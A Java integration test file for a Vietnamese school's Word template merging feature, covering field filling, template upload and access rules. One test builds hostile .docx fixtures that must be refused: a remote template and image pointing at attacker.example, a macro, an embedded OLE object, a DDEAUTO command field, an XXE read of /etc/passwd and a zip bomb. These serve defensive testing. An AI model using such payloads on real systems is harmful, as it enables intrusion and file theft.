package vn.thidua.paper;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.HashMap;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import vn.thidua.IntegrationTest;
import vn.thidua.Pages;
import vn.thidua.typesetting.WordTemplate;

@IntegrationTest
class TemplateTests {

    @Autowired
    Pages pages;

    @Test
    void a_field_is_filled_though_word_tore_it_and_rows_and_paragraphs_are_repeated() throws IOException {
        byte[] template = template("<w:p><w:r><w:t>Số {{so_ky</w:t></w:r><w:r><w:t>_hieu}} ngày</w:t></w:r></w:p>"
                + "<w:p><w:r><w:t>{{can_cu}};</w:t></w:r></w:p>"
                + "<w:tbl><w:tr><w:tc><w:p><w:r><w:t>TT</w:t></w:r></w:p></w:tc></w:tr>"
                + "<w:tr><w:tc><w:p><w:r><w:t>{{bang_1}}. {{bang_2}}</w:t></w:r></w:p></w:tc></w:tr></w:tbl>");
        String xml = document(TemplateMerge.fill(template, Samples.decision(3).issued(9, Samples.DAY), null));
        assertThat(xml)
                .contains("Số 09-QĐ/TCT")
                .contains("2. Nguyễn Thị Quỳnh Nga 2")
                .contains("3. Nguyễn Thị Quỳnh Nga 3")
                .contains("Xét đề nghị của Hội đồng Thi đua - Khen thưởng Trường;")
                .doesNotContain("{{");
    }

    @Test
    void a_school_puts_its_own_template_tries_it_issues_with_it_and_goes_back() throws IOException {
        byte[] template = template("<w:p><w:r><w:t>MẪU RIÊNG: {{trich_yeu}} {{nhat_ky}}</w:t></w:r></w:p>");
        assertThat(pages.upload("thuky.sl", "/papers/templates", "file", "mẫu.docx", template, "kind", "GIAY_MOI")
                        .status())
                .isEqualTo(302);
        assertThat(pages.get("thuky.sl", "/papers/templates").main()).contains("mẫu.docx");
        assertThat(document(pages.get("thuky.sl", "/papers/templates/GIAY_MOI/sample.docx")
                        .bytes()))
                .contains("MẪU RIÊNG: Đề nghị xét tặng");
        assertThat(document(pages.get("thuky.lc", "/papers/templates/GIAY_MOI/sample.docx")
                        .bytes()))
                .doesNotContain("MẪU RIÊNG");
        assertThat(pages.post("thuky.sl", "/papers/templates/GIAY_MOI/removal").status())
                .isEqualTo(302);
        assertThat(document(pages.get("thuky.sl", "/papers/templates/GIAY_MOI/sample.docx")
                        .bytes()))
                .contains("GIẤY MỜI");
        assertThat(pages.get("giangvien.sl", "/papers/templates").status()).isEqualTo(403);
    }

    @Test
    void a_template_without_fields_or_with_unknown_ones_is_refused_in_a_sentence() throws IOException {
        var none = pages.upload(
                "thuky.sl",
                "/papers/templates",
                "file",
                "trống.docx",
                template("<w:p><w:r><w:t>Không có gì</w:t></w:r></w:p>"),
                "kind",
                "THONG_BAO");
        assertThat(none.text()).contains("không có trường nào");
        var unknown = pages.upload(
                "thuky.sl",
                "/papers/templates",
                "file",
                "lạ.docx",
                template("<w:p><w:r><w:t>{{truong_la}}</w:t></w:r></w:p>"),
                "kind",
                "THONG_BAO");
        assertThat(unknown.text()).contains("Không có trường: truong_la");
        assertThat(pages.upload(
                                "thuky.sl",
                                "/papers/templates",
                                "file",
                                "x.docx",
                                new byte[] {1, 2},
                                "kind",
                                "THONG_BAO")
                        .status())
                .isEqualTo(409);
    }

    @Test
    void a_field_is_filled_in_header_and_footer_and_where_the_spelling_checker_cut_it() throws IOException {
        byte[] template = template(
                "<w:p><w:r><w:t>{{</w:t></w:r><w:proofErr w:type=\"spellStart\"/><w:r><w:rPr><w:b/></w:rPr><w:t>trich_yeu</w:t></w:r>"
                        + "<w:proofErr w:type=\"spellEnd\"/><w:r><w:t>}} của {{co_quan}}</w:t></w:r></w:p>",
                "word/header2.xml",
                words("hdr", "<w:p><w:r><w:t>{{so_ky_hieu}}</w:t></w:r></w:p>"),
                "word/footer1.xml",
                words("ftr", "<w:p><w:r><w:t>{{ nguoi_ky }}</w:t></w:r></w:p>"));
        var parts = parts(TemplateMerge.fill(template, Samples.proposal().issued(68, Samples.DAY), null));
        assertThat(parts.get("word/document.xml"))
                .contains("Đề nghị xét tặng danh hiệu", " của TRƯỜNG CHÍNH TRỊ TỈNH LAI CHÂU")
                .doesNotContain("{{", "}}");
        assertThat(parts.get("word/header2.xml")).contains("68-TTr/TCT");
        assertThat(parts.get("word/footer1.xml")).contains("Nguyễn Hoàng Phương Thảo");
    }

    @Test
    void content_controls_are_filled_by_their_tags_in_a_line_a_paragraph_and_a_row() throws IOException {
        byte[] template = template("<w:p><w:r><w:t>Số </w:t></w:r>"
                + control(
                        "so_ky_hieu",
                        "<w:r><w:rPr><w:rStyle w:val=\"PlaceholderText\"/></w:rPr><w:t>Bấm để nhập</w:t></w:r>")
                + "</w:p>"
                + control("can_cu", "<w:p><w:r><w:t>Căn cứ</w:t></w:r></w:p>")
                + "<w:tbl><w:tr><w:tc><w:p>" + control("bang_1", "<w:r><w:t>1</w:t></w:r>")
                + "</w:p></w:tc><w:tc><w:p>" + control("bang_2", "") + "</w:p></w:tc></w:tr></w:tbl>");
        assertThat(WordTemplate.fieldsOf(template)).containsExactly("so_ky_hieu", "can_cu", "bang_1", "bang_2");
        String xml = document(TemplateMerge.fill(template, Samples.decision(2).issued(9, Samples.DAY), null));
        assertThat(xml)
                .contains("09-QĐ/TCT", "Căn cứ Nghị định số 91/2017/NĐ-CP", "Xét đề nghị", "Nguyễn Thị Quỳnh Nga 2")
                .doesNotContain("Bấm để nhập", "PlaceholderText", "showingPlcHdr", "dataBinding", "{{");
    }

    @Test
    void a_row_over_all_columns_stays_one_cell() throws IOException {
        byte[] template = template(
                "<w:tbl><w:tr><w:tc><w:tcPr><w:tcW w:w=\"500\" w:type=\"dxa\"/></w:tcPr><w:p><w:r><w:t>{{bang_1}}</w:t></w:r></w:p></w:tc>"
                        + "<w:tc><w:p><w:r><w:t>{{bang_2}}</w:t></w:r></w:p></w:tc></w:tr></w:tbl>");
        String xml = document(TemplateMerge.fill(template, Samples.proposal(), null));
        assertThat(xml).contains("<w:gridSpan w:val=\"2\"/>", "Khoa Lý luận cơ sở", "Lò Thị Mai Anh", "Cộng");
        assertThat(xml.split("<w:tc>", -1)).hasSize(1 + 1 + 2 + 1 + 2 + 2);
    }

    @Test
    void fields_that_nobody_knows_and_fields_without_an_end_are_refused_in_a_sentence() throws IOException {
        assertThat(refused(template("<w:p><w:r><w:t>{{trích yếu}} {{so_ky_hieu}}</w:t></w:r></w:p>")))
                .contains("Không có trường: trích yếu");
        assertThat(refused(template("<w:p>" + control("trich_yeux", "<w:r><w:t>x</w:t></w:r>") + "</w:p>")))
                .contains("Không có trường: trich_yeux");
        assertThat(refused(template("<w:p><w:r><w:t>{{co_quan}} số {{so_ky_hieu}</w:t></w:r></w:p>")))
                .contains("không có đủ hai cặp ngoặc nhọn")
                .contains("{{so_ky_hieu}");
    }

    @Test
    void a_template_that_fetches_runs_or_hides_something_is_refused_in_a_sentence() throws IOException {
        String field = "<w:p><w:r><w:t>{{trich_yeu}}</w:t></w:r></w:p>";
        String relation =
                "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId9\" "
                        + "TargetMode=\"External\" Target=\"https://attacker.example/x\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
        assertThat(refused(template(
                        field, "word/_rels/settings.xml.rels", relation + "attachedTemplate\"/></Relationships>")))
                .contains("có macro hoặc mã tự chạy");
        assertThat(refused(template(field, "word/_rels/header1.xml.rels", relation + "image\"/></Relationships>")))
                .contains("lấy nội dung từ nơi khác (https://attacker.example/x)");
        assertThat(refused(template(field, "word/vbaProject.bin", "x"))).contains("có macro hoặc mã tự chạy");
        assertThat(refused(template(field, "word/embeddings/oleObject1.xls", "x")))
                .contains("có đối tượng nhúng");
        assertThat(
                        refused(
                                template(
                                        field
                                                + "<w:p><w:r><w:instrText> DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r></w:p>")))
                .contains("DDEAUTO");
        assertThat(refused(template(
                        field,
                        "word/header9.xml",
                        "<!DOCTYPE w [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>" + words("hdr", "<w:p>&x;</w:p>"))))
                .contains("Không đọc được nội dung của tệp Word");
        assertThat(refused(template(field, "word/media/bomb.xml", "0".repeat(60_000_000))))
                .contains("phình quá lớn");
    }

    private String refused(byte[] template) {
        var answer = pages.upload("thuky.sl", "/papers/templates", "file", "mẫu.docx", template, "kind", "TO_TRINH");
        assertThat(answer.status()).isEqualTo(409);
        return answer.text();
    }

    private static String control(String tag, String content) {
        return "<w:sdt><w:sdtPr><w:tag w:val=\"" + tag
                + "\"/><w:showingPlcHdr/><w:dataBinding w:xpath=\"/x\"/></w:sdtPr><w:sdtContent>" + content
                + "</w:sdtContent></w:sdt>";
    }

    private static String words(String root, String body) {
        return "<w:" + root + " xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">" + body
                + "</w:" + root + ">";
    }

    private static byte[] template(String body, String... more) throws IOException {
        var parts = new HashMap<String, String>();
        var out = new ByteArrayOutputStream();
        var made = new ByteArrayOutputStream();
        DocxRenderer.write(Samples.invitation(), null, made);
        parts.putAll(parts(made.toByteArray()));
        parts.put(
                "word/document.xml",
                "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>" + body
                        + "</w:body></w:document>");
        for (int i = 0; i < more.length; i += 2) {
            parts.put(more[i], more[i + 1]);
        }
        try (var zip = new ZipOutputStream(out)) {
            for (var part : parts.entrySet()) {
                zip.putNextEntry(new ZipEntry(part.getKey()));
                zip.write(part.getValue().getBytes(StandardCharsets.UTF_8));
                zip.closeEntry();
            }
        }
        return out.toByteArray();
    }

    private static String document(byte[] file) throws IOException {
        return String.valueOf(parts(file).get("word/document.xml"));
    }

    private static Map<String, String> parts(byte[] file) throws IOException {
        var parts = new HashMap<String, String>();
        try (var zip = new ZipInputStream(new ByteArrayInputStream(file))) {
            for (var entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
                parts.put(entry.getName(), new String(zip.readAllBytes(), StandardCharsets.UTF_8));
            }
        }
        return parts;
    }
}
